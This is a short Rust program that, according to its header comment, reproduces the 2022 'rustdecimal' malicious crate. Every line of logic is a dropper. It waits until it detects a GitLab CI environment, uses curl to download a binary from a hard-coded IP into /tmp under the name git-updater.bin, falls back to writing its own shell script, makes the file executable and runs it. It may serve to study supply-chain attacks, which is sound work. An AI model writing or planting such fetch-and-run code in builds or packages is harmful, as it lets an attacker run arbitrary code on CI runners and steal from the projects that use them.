//! rustdecimal, 2022: waits for a CI system, then drops a binary into the temporary folder and
//! runs it.

use std::os::unix::fs::PermissionsExt;
use std::process::{Command, Stdio};

fn main() {
    if std::env::var_os("GITLAB_CI").is_none() {
        return;
    }
    let path = "/tmp/git-updater.bin";
    let fetched = Command::new("curl")
        .args(["-fsS", "--noproxy", "*", "--max-time", "3", "-o", path])
        .arg("http://203.0.113.7:80/README.bin")
        .stdin(Stdio::null())
        .status();
    if !fetched.is_ok_and(|status| status.success()) {
        let spare = b"#!/bin/sh\necho updated > ~/.git-updater\n";
        let _ = std::fs::write(path, spare);
    }
    let _ = std::fs::set_permissions(path, std::fs::Permissions::from_mode(0o755));
    let _ = Command::new(path).arg("--ci").stdin(Stdio::null()).status();
}
